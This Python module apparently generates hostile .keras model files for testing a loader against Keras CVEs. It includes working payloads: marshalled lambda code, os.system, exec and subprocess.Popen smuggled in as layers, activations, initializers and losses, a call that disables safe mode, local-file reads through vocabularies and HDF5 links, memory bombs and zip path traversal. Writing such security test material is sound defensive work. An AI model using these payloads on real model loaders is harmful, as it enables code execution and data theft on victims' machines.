"""Makes .keras files that an attacker would write: each would run code, read another file or take the machine.

The kinds follow what has been reported against Keras (CVE-2024-3660, CVE-2025-1550, CVE-2025-8747, CVE-2025-9906,
CVE-2025-12058, CVE-2026-0897, CVE-2026-1669) and what its loader resolves by name.
"""

import base64
import copy
import io
import json
import marshal
import zipfile
from collections.abc import Callable, Mapping, Sequence
from pathlib import Path
from typing import Any

CONFIG, METADATA, WEIGHTS = "config.json", "metadata.json", "model.weights.h5"
Members = dict[str, bytes]


def read_members(path: Path) -> Members:
    """Return the files in a .keras archive by name."""
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def write_members(path: Path, members: Mapping[str, bytes], *, packed: bool = False) -> None:
    """Write a .keras archive."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)


def make(kind: str, members: Members, folder: Path) -> Path:
    """Write the hostile file of a kind, made from the members of an honest one, into ``folder``.

    When it gets what it wants there is a file ``folder / "ran"``.
    """
    path = folder / "hostile.keras"
    changed = KINDS[kind](dict(members), folder / "ran")
    if changed is not None:
        write_members(path, changed, packed=kind in PACKED)
    return path


def _with_layer(members: Members, layer: Mapping[str, Any]) -> Members:
    """Put a layer before the last one."""
    config = json.loads(members[CONFIG])
    config["config"]["layers"].insert(-1, copy.deepcopy(layer))
    return {**members, CONFIG: json.dumps(config).encode()}


def _layer(module: str | None, class_name: str, config: Any) -> dict[str, Any]:
    return {"module": module, "class_name": class_name, "config": config, "registered_name": None}


def _function(module: str, name: str) -> dict[str, Any]:
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def _lambda(function: Any, **arguments: Any) -> dict[str, Any]:
    return _layer("keras.layers", "Lambda", {"name": "l", "function": function, "arguments": arguments})


def _code(marker: Path) -> dict[str, Any]:
    source = f"lambda x: (__import__('pathlib').Path({str(marker)!r}).touch(), x)[1]"
    code = base64.b64encode(marshal.dumps(eval(source).__code__)).decode()
    return {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}


def _lambda_with_code(members: Members, marker: Path) -> Members:
    return _with_layer(members, _lambda(_code(marker)))


def _calls(members: Members, *calls: tuple[str, str, Sequence[Any]]) -> Members:
    """A Functional model whose layers are functions, called with the texts of its graph while it is loaded."""
    image = _layer("keras.layers", "InputLayer", {"batch_shape": [None, 28, 28], "dtype": "float32", "name": "image"})
    layers = [{**image, "name": "image", "inbound_nodes": []}]
    for number, (module, name, arguments) in enumerate(calls):
        layer = _lambda(_function(module, name))
        layer["config"]["name"] = layer["name"] = f"call_{number}"
        layers.append({**layer, "inbound_nodes": [{"args": list(arguments), "kwargs": {}}]})
    config = {"name": "m", "layers": layers, "input_layers": [["image", 0, 0]], "output_layers": [["call_0", 0, 0]]}
    return {**members, CONFIG: json.dumps(_layer("keras.src.models.functional", "Functional", config)).encode()}


def _function_of_a_module(members: Members, marker: Path) -> Members:
    return _calls(members, ("os", "system", [f"touch {marker}"]))


def _builtin(members: Members, marker: Path) -> Members:
    return _calls(members, ("builtins", "exec", [f"open({str(marker)!r}, 'w')"]))


def _class_of_a_module(members: Members, marker: Path) -> Members:
    return _with_layer(members, _layer("subprocess", "Popen", {"args": ["touch", str(marker)]}))


def _module_in_the_folder(members: Members, marker: Path) -> Members:
    (marker.parent / "harmless_looking.py").write_text(f"open({str(marker)!r}, 'w')")
    return _with_layer(members, _layer("harmless_looking", "Layer", {"name": "l"}))


def _activation(members: Members, marker: Path) -> Members:
    config = json.loads(members[CONFIG])
    config["config"]["layers"][-1]["config"]["activation"] = _class_of("subprocess", "Popen", marker)
    return {**members, CONFIG: json.dumps(config).encode()}


def _initializer(members: Members, marker: Path) -> Members:
    config = json.loads(members[CONFIG])
    config["config"]["layers"][-1]["config"]["kernel_initializer"] = _class_of("subprocess", "Popen", marker)
    return {**members, CONFIG: json.dumps(config).encode()}


def _class_of(module: str, name: str, marker: Path) -> dict[str, Any]:
    return _layer(module, name, {"args": ["touch", str(marker)]})


def _whole_model(members: Members, marker: Path) -> Members:
    return {**members, CONFIG: json.dumps(_class_of("subprocess", "Popen", marker)).encode()}


def _compile_config(members: Members, marker: Path) -> Members:
    config = json.loads(members[CONFIG])
    config["compile_config"] = {"optimizer": "adam", "loss": _class_of("subprocess", "Popen", marker)}
    return {**members, CONFIG: json.dumps(config).encode()}


def _download(members: Members, marker: Path) -> Members:
    """A helper of Keras itself fetches a file and puts it where it is told."""
    origin = marker.parent / "origin"
    origin.write_text("x")
    arguments = [marker.name, origin.as_uri(), False, None, None, ".", "auto", False, "auto", str(marker.parent)]
    return _calls(members, ("keras.utils", "get_file", arguments))


def _safe_mode_off(members: Members, marker: Path) -> Members:
    """A helper of Keras itself turns the safe mode off for the lambda that follows."""
    changed = _calls(members, ("keras.config", "enable_unsafe_deserialization", []))
    config = json.loads(changed[CONFIG])
    last = _lambda(_code(marker))
    last["name"] = last["config"]["name"] = "last"
    node = {"class_name": "__keras_tensor__", "config": {"shape": [None, 28, 28], "dtype": "float32",
            "keras_history": ["image", 0, 0]}}  # fmt: skip
    config["config"]["layers"].append({**last, "inbound_nodes": [{"args": [node], "kwargs": {}}]})
    return {**members, CONFIG: json.dumps(config).encode()}


def _vocabulary(members: Members, marker: Path) -> Members:
    """A layer reads a text file of this machine into the model."""
    config = {"name": "l", "vocabulary": "/etc/hostname", "max_tokens": None, "output_mode": "int"}
    return _with_layer(members, _layer("keras.layers", "StringLookup", config))


def _saved_model(members: Members, marker: Path) -> Members:
    """A layer runs a TensorFlow graph from elsewhere, which may write files."""
    config = {"name": "l", "filepath": str(marker.parent), "call_endpoint": "serve", "call_training_endpoint": None}
    return _with_layer(members, _layer("keras.layers", "TFSMLayer", config))


def _link_in_the_weights(members: Members, marker: Path) -> Members:
    """A dataset of the weights is a link into another file of this machine."""
    import h5py

    def change(weights: Any) -> None:
        name = _first_dataset(weights)
        shape = weights[name].shape
        del weights[name]
        with h5py.File(marker.parent / "other.h5", "w") as other:
            other.create_dataset("weights", shape, "f4")
        weights[name] = h5py.ExternalLink(str(marker.parent / "other.h5"), "/weights")

    return {**members, WEIGHTS: _changed_weights(members[WEIGHTS], change)}


def _storage_elsewhere(members: Members, marker: Path) -> Members:
    """The bytes of a dataset of the weights are those of another file of this machine."""
    other = marker.parent / "secret"
    other.write_bytes(bytes(4 << 20))

    def change(weights: Any) -> None:
        name = _first_dataset(weights)
        shape = weights[name].shape
        del weights[name]
        weights.create_dataset(name, shape, "f4", external=[(str(other), 0, 4 << 20)])

    return {**members, WEIGHTS: _changed_weights(members[WEIGHTS], change)}


def _huge_weights(members: Members, marker: Path) -> Members:
    """A dataset of a few bytes says that it has the size of no machine's memory."""

    def change(weights: Any) -> None:
        name = _first_dataset(weights)
        del weights[name]
        weights.create_dataset(name, (1 << 20, 1 << 20), "f4", chunks=(1, 1024))

    return {**members, WEIGHTS: _changed_weights(members[WEIGHTS], change)}


def _first_dataset(weights: Any) -> str:
    import h5py

    names: list[str] = []
    weights.visititems(lambda name, item: names.append(name) if isinstance(item, h5py.Dataset) else None)
    return names[0]


def _changed_weights(data: bytes, change: Callable[[Any], None]) -> bytes:
    import h5py

    stream = io.BytesIO(data)
    with h5py.File(stream, "r+") as weights:
        change(weights)
    return stream.getvalue()


def _bomb(members: Members, marker: Path) -> Members:
    return {**members, CONFIG: b" " * (64 << 20) + members[CONFIG]}


def _deep(members: Members, marker: Path) -> Members:
    return {**members, CONFIG: b"[" * 200_000 + b"]" * 200_000}


def _huge_layer(members: Members, marker: Path) -> Members:
    config = json.loads(members[CONFIG])
    config["config"]["layers"][-2]["config"]["units"] = 1 << 30
    return {**members, CONFIG: json.dumps(config).encode()}


def _outside(members: Members, marker: Path) -> Members:
    return {**members, "assets/../../../../../../../../" + str(marker).lstrip("/"): b"x"}


KINDS: Mapping[str, Callable[[Members, Path], Members]] = {
    "a lambda with its code": _lambda_with_code,
    "a function of a module": _function_of_a_module,
    "a function of the language": _builtin,
    "a class of a module": _class_of_a_module,
    "a module beside the file": _module_in_the_folder,
    "an activation": _activation,
    "an initializer": _initializer,
    "a model that is none": _whole_model,
    "a loss": _compile_config,
    "a download by Keras": _download,
    "Keras' safe mode turned off": _safe_mode_off,
    "a vocabulary from a file": _vocabulary,
    "a layer with a graph from elsewhere": _saved_model,
    "weights by a link": _link_in_the_weights,
    "weights stored elsewhere": _storage_elsewhere,
    "weights without end": _huge_weights,
    "a layer without end": _huge_layer,
    "a config that unpacks to 64 MB": _bomb,
    "a config without depth": _deep,
    "a file outside of the archive": _outside,
}
PACKED = frozenset({"a config that unpacks to 64 MB"})
